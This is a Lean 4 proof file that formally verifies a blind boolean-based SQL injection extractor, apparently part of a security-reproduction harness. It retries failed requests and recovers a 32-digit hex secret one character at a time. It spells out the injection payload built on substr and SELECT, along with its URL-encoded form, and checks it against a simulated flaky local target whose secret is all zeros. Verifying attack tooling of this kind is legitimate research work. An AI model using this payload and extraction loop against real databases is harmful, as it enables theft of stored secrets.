import TaoSubnet.Proof.Security.Reproduction

/-!
# Blind extraction from a target that is now and then unreachable

Each question about the secret is asked up to three times, and an answer that never came counts as
a no. A no can only end the search for a digit without one, and a position without a digit ends the
extraction: so what is lost is lost at the end.
-/

namespace TaoSubnet

open Py

variable {δ : Type} {o : Outside δ} {py : Interpreter}

/-! ## One attempt -/

/-- What a response says, if it is an object. -/
def foundIn (py : Interpreter) (body : List UInt8) : Option Bool :=
  match Json.loads py.recursionLimit body with
  | .ok (.obj items) => some (((Json.get? items "found").map Json.truthy).getD false)
  | _ => none

/-- The answer of one attempt: none when the request fails or its response cannot be read. -/
def attemptAt (o : Outside δ) (py : Interpreter) (url : PyStr) (w : World δ) : Option Bool :=
  match (o.http w.outside { url := url }).1 with
  | .ok response => foundIn py response.body
  | .error _ => none

/-- The world after one attempt. -/
def attempted (o : Outside δ) (url : PyStr) (w : World δ) : World δ :=
  { w with outside := (o.http w.outside { url := url }).2 }

/-- One attempt of a question, as `btest` makes it. -/
def attempt (o : Outside δ) (py : Interpreter) (url : PyStr) : Prog (World δ) Exc (Option Bool) :=
  Prog.tryExcept
    (do
      let response ← urlopen o { url := url }
      match ← Prog.ofExcept (Json.loads py.recursionLimit response.body) with
      | .obj items => return some (((Json.get? items "found").map Json.truthy).getD false)
      | _ => Prog.raise ⟨.attributeError, "object has no attribute 'get'"⟩)
    (fun _ => return none)

theorem attempt_run (url : PyStr) (w : World δ) :
    attempt o py url w = (.ok (attemptAt o py url w), attempted o url w) := by
  cases hhttp : (o.http w.outside { url := url }).1 with
  | error e =>
    have hopen : urlopen o { url := url } w = (.error e, attempted o url w) := Prod.ext hhttp rfl
    unfold attempt attemptAt
    rw [hhttp]
    exact Prog.tryExcept_error (Prog.bind_error hopen)
  | ok response =>
    have hopen : urlopen o { url := url } w = (.ok response, attempted o url w) :=
      Prod.ext hhttp rfl
    have hanswer : attemptAt o py url w = foundIn py response.body := by
      unfold attemptAt
      rw [hhttp]
    rw [hanswer]
    unfold attempt foundIn Prog.tryExcept
    rw [Prog.bind_ok hopen]
    cases hloads : Json.loads py.recursionLimit response.body with
    | error e => rfl
    | ok value =>
      cases value with
      | obj items => rfl
      | null => rfl
      | bool b => rfl
      | int n => rfl
      | float x => rfl
      | str s => rfl
      | arr items => rfl

theorem btest_answered {url : PyStr} {w : World δ} {found : Bool}
    (h : attemptAt o py url w = some found) (n : Nat) :
    btest o py url (n + 1) w = (.ok found, attempted o url w) := by
  show (attempt o py url >>= _) w = _
  rw [Prog.bind_ok (attempt_run url w), h]
  rfl

theorem btest_failed {url : PyStr} {w : World δ} (h : attemptAt o py url w = none) (n : Nat) :
    btest o py url (n + 1) w = btest o py url n (attempted o url w) := by
  show (attempt o py url >>= _) w = _
  rw [Prog.bind_ok (attempt_run url w), h]

/-! ## The questions of a run -/

/-- One of the next `n` attempts is answered. -/
def AnsweredWithin (o : Outside δ) (py : Interpreter) (url : PyStr) : (n : Nat) → World δ → Prop
  | 0, _ => False
  | n + 1, w => (attemptAt o py url w).isSome = true ∨
      AnsweredWithin o py url n (attempted o url w)

/-- Every question that the search for a digit comes to is answered within its attempts. -/
def DigitAnswered (o : Outside δ) (py : Interpreter) (urlOf : Char → Except Exc PyStr) :
    List Char → World δ → Prop
  | [], _ => True
  | c :: rest, w => ∀ url, urlOf c = .ok url → AnsweredWithin o py url 3 w ∧
      ∀ w', btest o py url 3 w = (.ok false, w') → DigitAnswered o py urlOf rest w'

/-- Every question that the extraction comes to is answered within its attempts. -/
def QuestionsAnswered (o : Outside δ) (py : Interpreter) (urlOf : Nat → Char → Except Exc PyStr) :
    (i n : Nat) → World δ → Prop
  | _, 0, _ => True
  | i, n + 1, w => DigitAnswered o py (urlOf i) HEX w ∧
      ∀ c w', confirmedDigit o py (urlOf i) HEX w = (.ok (some c), w') →
        QuestionsAnswered o py urlOf (i + 1) n w'

/-- Whenever the target answers whether the character of the secret at a position is `c`, it answers
    truthfully. Positions count from one. -/
def Truthful (o : Outside δ) (py : Interpreter) (urlOf : Nat → Char → Except Exc PyStr)
    (secret : List Char) : Prop :=
  ∀ i < 32, ∀ c ∈ HEX, ∀ url, urlOf (i + 1) c = .ok url → ∀ (w : World δ) found,
    attemptAt o py url w = some found → found = decide (secret[i]? = some c)

/-! ## What they come to -/

/-- A yes is the truth, and so is a no that was an answer. -/
theorem btest_truthful {url : PyStr} {truth : Bool}
    (htruth : ∀ (w : World δ) found, attemptAt o py url w = some found → found = truth) (n : Nat) :
    ∀ w : World δ, ∃ found w', btest o py url n w = (.ok found, w') ∧
      (found = true → truth = true) ∧ (AnsweredWithin o py url n w → found = truth) := by
  induction n with
  | zero =>
    intro w
    refine ⟨false, w, rfl, ?_, False.elim⟩
    intro hyes
    cases hyes
  | succ n ih =>
    intro w
    cases hattempt : attemptAt o py url w with
    | some found =>
      have hfound : found = truth := htruth w found hattempt
      exact ⟨found, _, btest_answered hattempt n, fun hyes => hfound ▸ hyes, fun _ => hfound⟩
    | none =>
      obtain ⟨found, w', hrun, hsound, hcomplete⟩ := ih (attempted o url w)
      refine ⟨found, w', (btest_failed hattempt n).trans hrun, hsound, ?_⟩
      intro hanswered
      rcases hanswered with hnow | hlater
      · rw [hattempt] at hnow
        cases hnow
      · exact hcomplete hlater

variable {urlOf : Nat → Char → Except Exc PyStr} {secret : List Char}

/-- A digit that is confirmed is the secret's, and with every question answered the secret's digit
    is confirmed. -/
theorem confirmedDigit_truthful (hurl : ∀ i c, ∃ url, urlOf i c = .ok url)
    (htruth : Truthful o py urlOf secret) {i : Nat} (hi : i < 32) (digits : List Char) :
    (∀ c ∈ digits, c ∈ HEX) → ∀ w : World δ, ∃ digit w',
      confirmedDigit o py (urlOf (i + 1)) digits w = (.ok digit, w') ∧
      (∀ c, digit = some c → secret[i]? = some c) ∧
      (DigitAnswered o py (urlOf (i + 1)) digits w →
        ∀ c ∈ digits, secret[i]? = some c → digit = some c) := by
  induction digits with
  | nil =>
    intro _ w
    refine ⟨none, w, rfl, ?_, ?_⟩
    · intro c hc
      cases hc
    · intro _ c hc
      cases hc
  | cons c rest ih =>
    intro hhex w
    obtain ⟨url, hc⟩ := hurl (i + 1) c
    obtain ⟨found, w₁, hbtest, hsound, hcomplete⟩ :=
      btest_truthful (htruth i hi c (hhex c List.mem_cons_self) url hc) 3 w
    have hstep : confirmedDigit o py (urlOf (i + 1)) (c :: rest) w =
        (if found = true then (pure (some c) : Prog (World δ) Exc (Option Char)) else
          confirmedDigit o py (urlOf (i + 1)) rest) w₁ := by
      rw [confirmedDigit, hc, Prog.bind_ok (Prog.ofExcept_run _ _), Prog.bind_ok hbtest]
    cases found with
    | true =>
      have hdigit : secret[i]? = some c := of_decide_eq_true (hsound rfl)
      refine ⟨some c, w₁, hstep, ?_, ?_⟩
      · intro c' hc'
        cases hc'
        exact hdigit
      · intro _ c' _ hc'
        exact hdigit.symm.trans hc'
    | false =>
      obtain ⟨digit, w₂, hrun, hsound', hcomplete'⟩ :=
        ih (fun c' hc' => hhex c' (List.mem_cons_of_mem c hc')) w₁
      refine ⟨digit, w₂, hstep.trans hrun, hsound', ?_⟩
      intro hanswered c' hc' hdigit
      obtain ⟨hnow, hlater⟩ := hanswered url hc
      rcases List.mem_cons.mp hc' with rfl | hrest
      · -- The question was answered, with a no.
        have hno := hcomplete hnow
        exact absurd hdigit (of_decide_eq_false hno.symm)
      · exact hcomplete' (hlater w₁ hbtest) c' hrest hdigit

/-- What is extracted from position `i` on is what begins the secret there, and with every question
    answered it is the rest of the secret. -/
theorem extractDigits_truthful (hurl : ∀ i c, ∃ url, urlOf i c = .ok url)
    (htruth : Truthful o py urlOf secret) (n : Nat) :
    ∀ i, i + n ≤ 32 → ∀ w : World δ, ∃ out w',
      extractDigits o py urlOf (i + 1) n w = (.ok out, w') ∧ out <+: secret.drop i ∧
      ((∀ c ∈ secret, c ∈ HEX) → secret.length ≤ i + n → QuestionsAnswered o py urlOf (i + 1) n w →
        out = secret.drop i) := by
  induction n with
  | zero =>
    intro i _ w
    refine ⟨[], w, rfl, List.nil_prefix, ?_⟩
    intro _ hlength _
    exact (List.drop_eq_nil_of_le hlength).symm
  | succ n ih =>
    intro i hi w
    obtain ⟨digit, w₁, hdigit, hsound, hcomplete⟩ :=
      confirmedDigit_truthful hurl htruth (i := i) (by omega) HEX (fun _ h => h) w
    cases digit with
    | none =>
      refine ⟨[], w₁, ?_, List.nil_prefix, ?_⟩
      · rw [extractDigits, Prog.bind_ok hdigit]
        rfl
      · intro hhex _ hanswered
        -- No digit was confirmed, so the secret has none here.
        rcases Nat.lt_or_ge i secret.length with hlt | hge
        · have hget : secret[i]? = some secret[i] := List.getElem?_eq_getElem hlt
          have hmem : secret[i] ∈ HEX := hhex _ (List.getElem_mem hlt)
          exact absurd (hcomplete hanswered.1 _ hmem hget) (by simp)
        · exact (List.drop_eq_nil_of_le hge).symm
    | some c =>
      have hget : secret[i]? = some c := hsound c rfl
      have hdrop : secret.drop i = c :: secret.drop (i + 1) := by
        obtain ⟨hlt, hc⟩ := List.getElem?_eq_some_iff.mp hget
        rw [List.drop_eq_getElem_cons hlt, hc]
      obtain ⟨out, w₂, hrun, hprefix, hall⟩ := ih (i + 1) (by omega) w₁
      refine ⟨c :: out, w₂, ?_, ?_, ?_⟩
      · rw [extractDigits, Prog.bind_ok hdigit]
        show ((extractDigits o py urlOf (i + 1 + 1) n) >>= _) w₁ = _
        rw [Prog.bind_ok hrun]
        rfl
      · rw [hdrop]
        exact List.cons_prefix_cons.mpr ⟨rfl, hprefix⟩
      · intro hhex hlength hanswered
        rw [hdrop, hall hhex (by omega) (hanswered.2 c w₁ hdigit)]

/-- Whichever attempts fail, what is extracted is a prefix of the secret, so that a fresh canary of
    32 digits is only ever matched by itself; and it is the whole secret once every question is
    answered within three attempts. -/
theorem blind_extraction (o : Outside δ) (py : Interpreter) (baseUrl : PyStr)
    (endpoint param table column : String) (numeric : Bool) (secret : String)
    (hhex : ∀ c ∈ secret.toList, c ∈ HEX) (hlength : secret.length ≤ 32)
    (htruth : Truthful o py (questionUrl baseUrl endpoint param table column numeric)
      secret.toList) (w : World δ) :
    ∃ extracted w', booleanExtract o py baseUrl endpoint param table column numeric w =
        (.ok extracted, w') ∧ extracted.toList <+: secret.toList ∧
      (∀ canary : String, canary.length = 32 → extracted = canary → secret = canary) ∧
      (QuestionsAnswered o py (questionUrl baseUrl endpoint param table column numeric) 1 32 w →
        extracted = secret) := by
  have hurl : ∀ i c, ∃ url,
      questionUrl baseUrl endpoint param table column numeric i c = .ok url := by
    intro i c
    obtain ⟨query, hquery⟩ := questionUrl_ok baseUrl endpoint param table column numeric i c
    exact ⟨_, hquery⟩
  obtain ⟨out, w', hrun, hprefix, hall⟩ := extractDigits_truthful hurl htruth 32 0 (le_refl 32) w
  rw [List.drop_zero] at hprefix hall
  refine ⟨String.ofList out, w', ?_, ?_, ?_, ?_⟩
  · rw [booleanExtract_eq, Prog.bind_ok hrun]
    rfl
  · rw [String.toList_ofList]
    exact hprefix
  · intro canary hcanary heq
    have hout : canary.toList = out := by rw [← heq, String.toList_ofList]
    rw [← hout] at hprefix
    have hlong : secret.toList.length ≤ canary.toList.length := by
      rw [String.length_toList, String.length_toList, hcanary]
      exact hlength
    have hsame : canary.toList = secret.toList :=
      hprefix.eq_of_length (le_antisymm hprefix.length_le hlong)
    exact String.toList_inj.mp hsame.symm
  · intro hanswered
    rw [hall hhex (by rw [String.length_toList]; omega) hanswered, String.ofList_toList]

/-! ## A target that answers every third attempt -/

theorem ofString_append (s t : String) :
    PyStr.ofString (s ++ t) = PyStr.ofString s ++ PyStr.ofString t := by
  unfold PyStr.ofString
  rw [String.toList_append, List.map_append]

theorem quotePlus_append {s t q r : PyStr} (hs : quotePlus s = .ok q) (ht : quotePlus t = .ok r) :
    quotePlus (s ++ t) = .ok (q ++ r) := by
  unfold quotePlus at hs ht ⊢
  cases hbytes : s.mapM utf8Bytes with
  | none =>
    rw [hbytes] at hs
    cases hs
  | some bytes =>
    cases hbytes' : t.mapM utf8Bytes with
    | none =>
      rw [hbytes'] at ht
      cases ht
    | some bytes' =>
      rw [hbytes] at hs
      rw [hbytes'] at ht
      cases hs
      cases ht
      rw [List.mapM_append, hbytes, hbytes']
      show Except.ok ((bytes ++ bytes').flatten.flatMap percentByte) = _
      rw [List.flatten_append, List.flatMap_append]

/-- The end of a question, from the position on. -/
def questionEnd (c : Char) : PyStr :=
  PyStr.ofString ",1)='" ++ PyStr.ofString c.toString ++ PyStr.ofString "'" ++
    PyStr.ofString ")-- -"

/-- A question ends with its character. -/
theorem questionUrl_ends (baseUrl : PyStr) (endpoint param table column : String) (numeric : Bool)
    (i : Nat) (c : Char) {q : PyStr} (hq : quotePlus (questionEnd c) = .ok q) :
    ∃ front, questionUrl baseUrl endpoint param table column numeric i c = .ok (front ++ q) := by
  obtain ⟨k, hk⟩ := quotePlus_ofString param
  obtain ⟨v, hv⟩ := quotePlus_ofString ((if numeric then "0 OR" else "zzz' OR") ++ " (" ++
    ("substr((" ++ ("SELECT \"" ++ column ++ "\" FROM \"" ++ table ++ "\" LIMIT 1") ++ ")," ++
      toString i))
  have hvalue := quotePlus_append hv hq
  refine ⟨rstripSlash baseUrl ++ PyStr.ofString endpoint ++ [63] ++ (k ++ [61] ++ v), ?_⟩
  unfold questionUrl
  dsimp only
  have hpayload : PyStr.ofString ((if numeric then "0 OR" else "zzz' OR") ++ " (" ++ ("substr((" ++
      ("SELECT \"" ++ column ++ "\" FROM \"" ++ table ++ "\" LIMIT 1") ++ ")," ++ toString i ++
      ",1)='" ++ c.toString ++ "'") ++ ")-- -") =
      PyStr.ofString ((if numeric then "0 OR" else "zzz' OR") ++ " (" ++
        ("substr((" ++ ("SELECT \"" ++ column ++ "\" FROM \"" ++ table ++ "\" LIMIT 1") ++ ")," ++
          toString i)) ++ questionEnd c := by
    unfold questionEnd
    simp only [ofString_append, List.append_assoc]
  rw [hpayload]
  unfold urlencode
  simp only [List.mapM_cons, List.mapM_nil, hk, hvalue]
  show Except.ok _ = Except.ok _
  simp [List.intercalate]

/-- The same, quoted. -/
def quotedEnd (c : Char) : PyStr :=
  PyStr.ofString "%2C1%29%3D%27" ++ c.toNat :: PyStr.ofString "%27%29--+-"

theorem quotePlus_questionEnd {c : Char} (hc : c ∈ HEX) :
    quotePlus (questionEnd c) = .ok (quotedEnd c) := by
  have hall : HEX.all (fun c => (quotePlus (questionEnd c)).toOption == some (quotedEnd c)) = true := by
    decide +kernel
  have hquoted : (quotePlus (questionEnd c)).toOption = some (quotedEnd c) :=
    eq_of_beq (List.all_eq_true.mp hall c hc)
  cases hquote : quotePlus (questionEnd c) with
  | error e =>
    rw [hquote] at hquoted
    cases hquoted
  | ok q =>
    rw [hquote] at hquoted
    cases hquoted
    rfl

theorem quotedEnd_injective {c c' : Char} (h : quotedEnd c = quotedEnd c') : c = c' := by
  have htail := List.append_cancel_left h
  exact Char.toNat_inj.mp (List.cons.inj htail).1

/-- The question is whether the character is a zero. -/
def asksZero (url : PyStr) : Bool := (quotedEnd '0').isSuffixOf url

theorem asksZero_append (front : PyStr) (c : Char) :
    asksZero (front ++ quotedEnd c) = decide (c = '0') := by
  unfold asksZero
  rw [Bool.eq_iff_iff, List.isSuffixOf_iff_suffix, decide_eq_true_iff]
  constructor
  · intro hsuffix
    have hlength : (quotedEnd '0').length = (quotedEnd c).length := by simp [quotedEnd]
    have hends : quotedEnd '0' <:+ quotedEnd c :=
      List.suffix_of_suffix_length_le hsuffix (List.suffix_append front _) (le_of_eq hlength)
    exact (quotedEnd_injective (hends.eq_of_length hlength)).symm
  · intro hc
    rw [hc]
    exact List.suffix_append front _

/-- `{"found":false}`. -/
def notFoundBody : List UInt8 :=
  [123, 34, 102, 111, 117, 110, 100, 34, 58, 102, 97, 108, 115, 101, 125]

/-- Its secret is 32 zeros, and two requests of three run into a timeout. -/
def flakyTarget : Outside Nat where
  docker d _ := (.ok { returncode := 0 }, d)
  http d request :=
    (if d % 3 = 2 then
      .ok { status := 200, body := if asksZero request.url then foundBody else notFoundBody }
    else .error ⟨.osError, "timed out"⟩, d + 1)

theorem flakyTarget_attempt (url : PyStr) (w : World Nat) :
    attemptAt flakyTarget cpython url w =
      if w.outside % 3 = 2 then some (asksZero url) else none := by
  have hyes : foundIn cpython foundBody = some true := by decide +kernel
  have hno : foundIn cpython notFoundBody = some false := by decide +kernel
  unfold attemptAt flakyTarget
  by_cases hturn : w.outside % 3 = 2
  · simp only [hturn, if_true]
    cases asksZero url with
    | true => exact hyes
    | false => exact hno
  · simp only [hturn, if_false]

theorem flakyTarget_answers (url : PyStr) (w : World Nat) :
    AnsweredWithin flakyTarget cpython url 3 w := by
  have hturns : w.outside % 3 = 2 ∨ (w.outside + 1) % 3 = 2 ∨ (w.outside + 2) % 3 = 2 := by omega
  unfold AnsweredWithin AnsweredWithin AnsweredWithin
  rw [flakyTarget_attempt, flakyTarget_attempt, flakyTarget_attempt]
  rcases hturns with hfirst | hsecond | hthird
  · left
    rw [if_pos hfirst]
    rfl
  · right
    left
    rw [if_pos (show (attempted flakyTarget url w).outside % 3 = 2 from hsecond)]
    rfl
  · right
    right
    left
    rw [if_pos (show (attempted flakyTarget url (attempted flakyTarget url w)).outside % 3 = 2
      from hthird)]
    rfl

theorem flakyTarget_truthful (baseUrl : PyStr) (endpoint param table column : String)
    (numeric : Bool) : Truthful flakyTarget cpython
      (questionUrl baseUrl endpoint param table column numeric) zeros.toList := by
  intro i hi c hc url hurl w found hfound
  obtain ⟨front, hfront⟩ := questionUrl_ends baseUrl endpoint param table column numeric (i + 1) c
    (quotePlus_questionEnd hc)
  rw [hfront] at hurl
  cases hurl
  rw [flakyTarget_attempt, asksZero_append] at hfound
  have hzero : zeros.toList[i]? = some '0' := by
    unfold zeros
    rw [String.toList_ofList, List.getElem?_replicate, if_pos hi]
  rw [hzero]
  split at hfound
  · cases hfound
    simp [eq_comm]
  · cases hfound

theorem digitAnswered_of_answers {urlOf : Char → Except Exc PyStr}
    (h : ∀ url (w : World δ), AnsweredWithin o py url 3 w) (digits : List Char) :
    ∀ w : World δ, DigitAnswered o py urlOf digits w := by
  induction digits with
  | nil => exact fun _ => trivial
  | cons c rest ih => exact fun w url _ => ⟨h url w, fun w' _ => ih w'⟩

/-- A target that answers any question within three attempts answers those of every run. -/
theorem questionsAnswered_of_answers (h : ∀ url (w : World δ), AnsweredWithin o py url 3 w) (n : Nat) :
    ∀ i (w : World δ), QuestionsAnswered o py urlOf i n w := by
  induction n with
  | zero => exact fun _ _ => trivial
  | succ n ih =>
    exact fun i w => ⟨digitAnswered_of_answers h HEX w, fun _ w' _ => ih (i + 1) w'⟩

/-- The secret is extracted whole. -/
theorem flaky_target_extracted :
    ∃ w', booleanExtract flakyTarget cpython (PyStr.ofString "http://127.0.0.1:8001") "/items" "q"
      "vault" "token" false { outside := 0 } = (.ok zeros, w') := by
  have hhex : ∀ c ∈ zeros.toList, c ∈ HEX := by
    intro c hc
    unfold zeros at hc
    rw [String.toList_ofList] at hc
    rw [List.eq_of_mem_replicate hc]
    decide +kernel
  have hlength : zeros.length ≤ 32 := by
    rw [← String.length_toList]
    unfold zeros
    rw [String.toList_ofList, List.length_replicate]
  obtain ⟨extracted, w', hrun, _, _, hall⟩ := blind_extraction flakyTarget cpython
    (PyStr.ofString "http://127.0.0.1:8001") "/items" "q" "vault" "token" false zeros hhex hlength
    (flakyTarget_truthful _ _ _ _ _ _) { outside := 0 }
  rw [hall (questionsAnswered_of_answers flakyTarget_answers 32 1 _)] at hrun
  exact ⟨w', hrun⟩

end TaoSubnet
